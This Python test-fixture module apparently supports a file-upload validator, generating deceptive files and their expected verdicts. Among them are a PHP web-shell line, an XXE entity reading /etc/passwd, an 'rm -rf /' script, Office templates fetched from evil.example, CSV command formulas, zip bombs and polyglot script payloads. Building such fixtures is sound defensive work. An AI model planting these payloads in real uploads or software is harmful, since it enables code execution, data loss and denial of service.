"""Files that are not what they say, or that do something when they are opened; made here, none lies in the sources.

`REFUSED` gives each with the code of the sentence that refuses it, `HARMLESS` with the type that it is handed out as.
Whatever runs in a browser calls out: it would open the address /files-have-run/.
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from typing import Any

from PIL import Image

RUN = "new Image().src='/files-have-run/'"
HTML = f"<!DOCTYPE html><html><body><script>{RUN}</script></body></html>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg"><script>{RUN}</script></svg>'.encode()
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-" + rb"STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
PDF = b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj 2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj "
PDF += b"3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 100]>>endobj\nxref\n0 4\n0000000000 65535 f \n"
PDF += b"trailer<</Root 1 0 R/Size 4>>\nstartxref\n180\n%%EOF\n"
_OOXML = "application/vnd.openxmlformats-officedocument."
WORD, EXCEL, SLIDES = (
    f"{_OOXML}{name}" for name in ("wordprocessingml.document", "spreadsheetml.sheet", "presentationml.presentation")
)
_PARTS = {WORD: "word/document.xml", EXCEL: "xl/workbook.xml", SLIDES: "ppt/presentation.xml"}
_RELATIONS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships/"


# --- hands ----------------------------------------------------------------------------------------------------------
def picture(kind: str = "PNG", size: tuple[int, int] = (40, 30), **options: Any) -> bytes:
    file = io.BytesIO()
    Image.new("RGB", size, "#2f4fa3").save(file, kind, **options)
    return file.getvalue()


def zipped(members: dict[str, bytes], *, first_stored: bool = False) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", zipfile.ZIP_DEFLATED) as package:
        for number, (name, content) in enumerate(members.items()):
            stored = first_stored and number == 0
            package.writestr(name, content, zipfile.ZIP_STORED if stored else zipfile.ZIP_DEFLATED)
    return file.getvalue()


def office(kind: str = WORD, more: dict[str, bytes] | None = None, *, macros: bool = False) -> bytes:
    """Make an Office document with the parts that make it one, and `more`."""
    main = _PARTS[kind]
    content_type = f"{kind}.main+xml"
    if macros:
        content_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    types = f"""<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">
<Default Extension="xml" ContentType="application/xml"/>
<Override PartName="/{main}" ContentType="{content_type}"/></Types>"""
    relations = f"""<?xml version="1.0"?><Relationships><Relationship Id="a" Type="{_RELATIONS}officeDocument"
Target="{main}"/></Relationships>"""
    parts = {"[Content_Types].xml": types.encode(), "_rels/.rels": relations.encode(), main: b"<document/>"}
    return zipped(parts | (more or {}))


def open_document(kind: str = "text", more: dict[str, bytes] | None = None) -> bytes:
    parts = {
        "mimetype": f"application/vnd.oasis.opendocument.{kind}".encode(),
        "content.xml": b"<content/>",
        "META-INF/manifest.xml": b"<manifest:manifest xmlns:manifest='m'/>",
    }
    return zipped(parts | (more or {}), first_stored=True)


def fetching(kind: str, target: str, part: str = "word/_rels/settings.xml.rels") -> dict[str, bytes]:
    relation = f'<Relationship Id="b" Type="{_RELATIONS}{kind}" Target="{target}" TargetMode="External"/>'
    return {part: f"<Relationships>{relation}</Relationships>".encode()}


def png_head(width: int, height: int) -> bytes:
    """Return a PNG that claims this size, with nothing to fill it."""

    def chunk(name: bytes, content: bytes) -> bytes:
        return struct.pack("!L", len(content)) + name + content + struct.pack("!L", zlib.crc32(name + content))

    head = struct.pack("!LLBBBBB", width, height, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", zlib.compress(b"")) + chunk(b"IEND", b"")


def box(name: bytes, content: bytes = b"") -> bytes:
    return struct.pack("!L", len(content) + 8) + name + content


def mp4(brand: bytes = b"isom", more: bytes = b"") -> bytes:
    return box(b"ftyp", brand + bytes(4) + brand) + box(b"moov", box(b"mvhd", bytes(100))) + box(b"mdat", more)


def webm(doctype: bytes = b"webm") -> bytes:
    header = b"\x42\x86\x81\x01\x42\x82" + bytes([0x80 | len(doctype)]) + doctype
    return b"\x1a\x45\xdf\xa3" + bytes([0x80 | len(header)]) + header + b"\x18\x53\x80\x67\x84" + b"\xec\x82\0\0"


def lying_package() -> bytes:
    """Make a document whose list says that a part is small, while it unpacks to 600 MB."""
    content = office(more={"word/media/big.bin": bytes(600 * 1024 * 1024)})
    return content.replace(struct.pack("<L", 600 * 1024 * 1024), struct.pack("<L", 1000))


def nested_bomb() -> bytes:
    inner = zipped({f"{number}.bin": bytes(1024 * 1024) for number in range(20)})
    return office(more={"word/embeddings/a.docx": office(more={"word/embeddings/b.zip": inner})})


def with_comment(content: bytes, comment: bytes) -> bytes:
    """Put a comment into a JPEG, right after its beginning."""
    return content[:2] + b"\xff\xfe" + struct.pack("!H", len(comment) + 2) + comment + content[2:]


def gif_with_comment() -> bytes:
    gif = picture("GIF")
    end = gif.rindex(b"\x3b")
    return gif[:end] + b"\x21\xfe" + bytes([len(HTML)]) + HTML + b"\0" + gif[end:]


# --- the corpus: name of the upload, what it holds ------------------------------------------------------------------
Made = tuple[str, Callable[[], bytes], str]
REFUSED: dict[str, Made] = {
    # what a browser would run
    "HTML as PNG": ("kuva.png", lambda: HTML, "web"),
    "HTML as text": ("ohje.txt", lambda: HTML, "web"),
    "HTML behind blanks": ("ohje.txt", lambda: b"\n" * 900 + b"  " + HTML, "web"),
    "HTML behind a byte order mark": ("ohje.txt", lambda: b"\xef\xbb\xbf" + HTML, "web"),
    "HTML in the middle of text": ("ohje.txt", lambda: b"Ohje: " + HTML, "web"),
    "HTML in UTF-16": ("ohje.txt", lambda: HTML.decode().encode("utf-16"), "unknown"),
    "HTML in UTF-7": ("ohje.html", lambda: b"+ADw-script+AD4-" + HTML, "web"),
    "SVG with a script": ("piirros.svg", lambda: SVG, "web"),
    "SVG as JPEG": ("piirros.jpg", lambda: SVG, "web"),
    "XHTML": ("sivu.xml", lambda: b'<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml"/>', "web"),
    "XML with an entity from elsewhere": (
        "lasku.xml",
        lambda: b'<?xml version="1.0"?><!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>',
        "web",
    ),
    "MHTML": (
        "sivu.mht",
        lambda: b"From: <Saved by Blink>\r\nMIME-Version: 1.0\r\nContent-Type: multipart/related\r\n\r\n" + HTML,
        "web",
    ),
    "HTA": ("ohje.hta", lambda: b"<hta:application id=a><script>1</script>", "web"),
    "PHP": ("ohje.php", lambda: b"<?php system($_GET['a']);", "web"),
    "PDF behind HTML": ("lasku.pdf", lambda: HTML + PDF, "web"),
    # what a computer would run
    "program as PDF": ("lasku.pdf", lambda: b"MZ" + bytes(200), "program"),
    "ELF as text": ("lasku.txt", lambda: b"\x7fELF" + bytes(200), "program"),
    "shell script": ("ohje.txt", lambda: b"#!/bin/sh\nrm -rf /\n", "program"),
    "link to the web": ("linkki.url", lambda: b"[InternetShortcut]\r\nURL=https://example.com/\r\n", "program"),
    "link of a desktop": ("linkki.desktop", lambda: b"[Desktop Entry]\nExec=sh\n", "program"),
    "registry": ("asetus.reg", lambda: b"Windows Registry Editor Version 5.00\r\n", "program"),
    # viruses
    "EICAR": ("ohje.txt", lambda: EICAR, "malware"),
    "EICAR behind a megabyte": ("ohje.txt", lambda: b"a" * 262_100 + EICAR, "malware"),
    "EICAR in a document": ("ohje.docx", lambda: office(more={"word/media/a.bin": EICAR}), "malware"),
    "EICAR in a document in a document": (
        "ohje.pptx",
        lambda: office(SLIDES, {"ppt/embeddings/a.docx": office(more={"word/a.txt": EICAR})}),
        "malware",
    ),
    "EICAR in an OpenDocument": ("ohje.odt", lambda: open_document(more={"Pictures/a.png": EICAR}), "malware"),
    "EICAR zipped": ("ohje.zip", lambda: zipped({"eicar.com": EICAR}), "archive"),
    # packages
    "zip": ("kuvat.zip", lambda: zipped({"a.txt": b"a"}), "archive"),
    "zip as document": ("ohje.docx", lambda: zipped({"word/document.xml": b"<a/>"}), "archive"),
    "empty zip": ("ohje.docx", lambda: zipped({}), "archive"),
    "gzip": ("ohje.gz", lambda: b"\x1f\x8b\x08\0" + bytes(30), "archive"),
    "RAR": ("ohje.rar", lambda: b"Rar!\x1a\x07\0" + bytes(30), "archive"),
    "7z": ("ohje.7z", lambda: b"7z\xbc\xaf\x27\x1c" + bytes(30), "archive"),
    "JAR in a document": ("a.docx", lambda: office(more={"word/media/a.jar": zipped({"A.class": b"a"})}), "archive"),
    "program in a document": ("a.docx", lambda: office(more={"word/embeddings/a.bin": b"MZ" + bytes(90)}), "program"),
    "bomb": ("a.docx", lambda: office(more={"word/media/a.bin": bytes(400 * 1024 * 1024)}), "bomb"),
    "bomb in many parts": (
        "a.xlsx",
        lambda: office(EXCEL, {f"xl/{number}.xml": bytes(5 * 1024 * 1024) for number in range(20)}),
        "bomb",
    ),
    "bomb that lies about its size": ("a.docx", lying_package, "broken"),
    "bomb in a document in a document": ("a.docx", nested_bomb, "archive"),
    "too many parts": ("a.docx", lambda: office(more={f"word/{number}": b"" for number in range(10_001)}), "bomb"),
    # documents that do something
    "macros as a workbook": ("hinnat.xlsx", lambda: office(EXCEL, macros=True), "macros"),
    "macros in a workbook": ("hinnat.xlsx", lambda: office(EXCEL, {"xl/vbaProject.bin": b"a"}), "macros"),
    "macros of Excel 4": ("hinnat.xlsx", lambda: office(EXCEL, {"xl/macrosheets/sheet1.xml": b"<a/>"}), "macros"),
    "ActiveX": ("ohje.docx", lambda: office(more={"word/activeX/activeX1.bin": b"a"}), "macros"),
    "macros in an OpenDocument": ("ohje.odt", lambda: open_document(more={"Basic/script-lc.xml": b"<a/>"}), "macros"),
    "template from elsewhere": (
        "ohje.docx",
        lambda: office(more=fetching("attachedTemplate", "https://evil.example/a.dotm")),
        "remote",
    ),
    "template from a share": (
        "ohje.docx",
        lambda: office(more=fetching("attachedTemplate", "\\\\evil.example\\a.dotm")),
        "remote",
    ),
    "object from elsewhere": ("ohje.docx", lambda: office(more=fetching("oleObject", "mhtml:https://evil")), "remote"),
    "DTD in a document": (
        "ohje.docx",
        lambda: office(more={"word/_rels/a.xml.rels": b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a/>'}),
        "broken",
    ),
    "old Office": ("ohje.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(600), "old_office"),
    "locked OpenDocument": (
        "ohje.odt",
        lambda: open_document(more={"META-INF/manifest.xml": b"<a xmlns:m='m'><m:encryption-data/></a>"}),
        "old_office",
    ),
    "drawing in OpenDocument": ("a.odg", lambda: open_document("graphics"), "unknown"),
    "RTF": ("ohje.rtf", lambda: b"{\\rtf1\\ansi{\\object}}", "unknown"),
    # pictures and video that are none
    "empty": ("kuva.png", lambda: b"", "empty"),
    "PNG cut short": ("kuva.png", lambda: picture()[:-20], "broken"),
    "PNG with a wrong sum": ("kuva.png", lambda: picture().replace(b"IDAT", b"IDAU"), "broken"),
    "JPEG cut short": ("kuva.jpg", lambda: picture("JPEG", (400, 300))[:-2], "broken"),
    "JPEG that is HTML": ("kuva.jpg", lambda: b"\xff\xd8\xff\xe0" + HTML, "broken"),
    "GIF that is a script": ("kuva.gif", lambda: b"GIF89a/*" + bytes(9) + f"*/=1;{RUN}".encode(), "broken"),
    "GIF that is HTML": ("kuva.gif", lambda: b"GIF89a" + HTML, "broken"),
    "WebP that is HTML": ("kuva.webp", lambda: b"RIFF" + struct.pack("<L", 900) + b"WEBP" + HTML, "broken"),
    "PNG of 65,536 × 65,536": ("kuva.png", lambda: png_head(65_536, 65_536), "pixels"),
    "PNG of 11,000 × 11,000": ("kuva.png", lambda: png_head(11_000, 11_000), "pixels"),
    "TIFF": ("kuva.tif", lambda: picture("TIFF"), "unknown"),
    "BMP": ("kuva.bmp", lambda: picture("BMP"), "unknown"),
    "HEIC": ("kuva.heic", lambda: box(b"ftyp", b"heic" + bytes(4)) + box(b"meta") + box(b"mdat"), "heic"),
    "MP4 that is HTML": ("video.mp4", lambda: box(b"ftyp", b"isom" + bytes(4)) + HTML, "broken"),
    "MP4 without pictures": ("video.mp4", lambda: box(b"ftyp", b"isom" + bytes(4)) + box(b"free", HTML), "broken"),
    "sound as video": ("video.mp4", lambda: mp4(b"M4A "), "unknown"),
    "Matroska": ("video.mkv", lambda: webm(b"mkvv"), "unknown"),
    "WebM that is HTML": ("video.webm", lambda: webm()[:-9] + HTML, "broken"),
    "PDF cut short": ("lasku.pdf", lambda: PDF[:-20], "broken"),
    "PDF with a zip behind it": ("lasku.pdf", lambda: PDF + zipped({"a": bytes(1) * 9, "b": HTML * 30}) * 9, "broken"),
    "letters of no alphabet": ("ohje.txt", lambda: bytes(range(256)), "unknown"),
}
HARMLESS: dict[str, Made] = {
    "PDF with a script": ("lasku.pdf", lambda: PDF.replace(b"/Pages 2 0 R>>", b"/Pages 2 0 R/OpenAction<</S/JavaScript"
                          b"/JS(app.alert\\(1\\))>>>>"), "application/pdf"),
    "PDF with HTML in it": ("lasku.pdf", lambda: PDF.replace(b"\n1 0 obj", b"\n%" + HTML + b"\n1 0 obj"),
                            "application/pdf"),
    "PDF with HTML behind it": ("lasku.pdf", lambda: PDF + HTML, "application/pdf"),
    "PNG with PHP behind it": ("kuva.png", lambda: picture() + b"<?php system($_GET['a']);", "image/png"),
    "PNG with HTML in a text": ("kuva.png", lambda: picture(pnginfo=_text_chunk()), "image/png"),
    "JPEG with HTML in a comment": ("kuva.jpg", lambda: with_comment(picture("JPEG"), HTML), "image/jpeg"),
    "JPEG with a zip behind it": ("kuva.jpg", lambda: picture("JPEG") + zipped({"a": HTML}), "image/jpeg"),
    "GIF with HTML in a comment": ("kuva.gif", gif_with_comment, "image/gif"),
    "MP4 with HTML in it": ("video.mp4", lambda: mp4(more=HTML), "video/mp4"),
    "CSV with formulas": ("hinnat.csv", lambda: b"=cmd|' /C calc'!A0;1\r\n@SUM(1+1);2\r\n", "text/csv"),
    "script as text": ("ohje.js", lambda: RUN.encode(), "text/plain"),
    "tags far down in a text": ("ohje.txt", lambda: b"Ohje. " * 900 + HTML, "text/plain"),
    "linked template of one's own disk": (
        "ohje.docx", lambda: office(more=fetching("attachedTemplate", "file:///C:\\mallit\\yritys.dotx")), WORD,
    ),
    "document with a web link": ("ohje.docx", lambda: office(more=fetching("hyperlink", "https://example.com")), WORD),
    "JPEG as PNG": ("kuva.png", lambda: picture("JPEG"), "image/jpeg"),
    "PDF as JPEG": ("kuva.jpg", lambda: PDF, "application/pdf"),
}  # fmt: skip


def _text_chunk() -> Any:
    from PIL.PngImagePlugin import PngInfo

    told = PngInfo()
    told.add_text("Comment", HTML.decode())
    return told
